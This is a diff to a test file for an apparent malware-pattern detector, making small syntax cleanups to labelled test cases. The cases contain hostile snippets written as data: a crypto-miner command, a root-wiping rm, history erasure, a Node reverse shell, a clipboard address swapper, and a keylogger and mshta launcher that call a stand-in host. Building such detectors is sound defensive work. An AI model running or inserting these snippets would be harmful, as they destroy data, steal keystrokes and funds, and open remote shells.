@@ -70,7 +70,7 @@ describe('shell', () => {
     [`./xmrig -o stratum+tcp://${HOST}:3333`, ['miner']],
     ['rm -rf --no-preserve-root /', ['destruction']],
     ['history -c; rm ~/.bash_history', ['evasion']],
-    [`pip install totally-fine-${'x'}`, ['package-install']],
+    [`pip install totally-fine-x`, ['package-install']],
   ])('%s', (text, kinds) => {
     expectAll('shell', text, kinds);
   });
@@ -236,15 +236,12 @@ describe('JavaScript', () => {
       'const net = require("net"), cp = require("child_process"); const s = cp.spawn("/bin/sh", []); c.pipe(s.stdin); s.stdout.pipe(c)',
       ['reverse-shell', 'spawn'],
     ],
-    [
-      `${Array.from({ length: 30 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n')}`,
-      ['obfuscation'],
-    ],
+    [Array.from({ length: 30 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n'), ['obfuscation']],
     [
       `navigator.clipboard.readText().then((t) => { if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) navigator.clipboard.writeText(mine) })`,
       ['clipboard'],
     ],
-    [`${'[]+!![]'.repeat(60)}`, ['obfuscation']],
+    ['[]+!![]'.repeat(60), ['obfuscation']],
     ['document.addEventListener("keydown", (e) => fetch("https://x.example.invalid/?k=" + e.key))', ['keystrokes']],
     ['new ActiveXObject("WScript.Shell").Run("cmd /c mshta https://x.example.invalid")', ['spawn', 'dynamic-code']],
   ])('%s', (text, kinds) => {
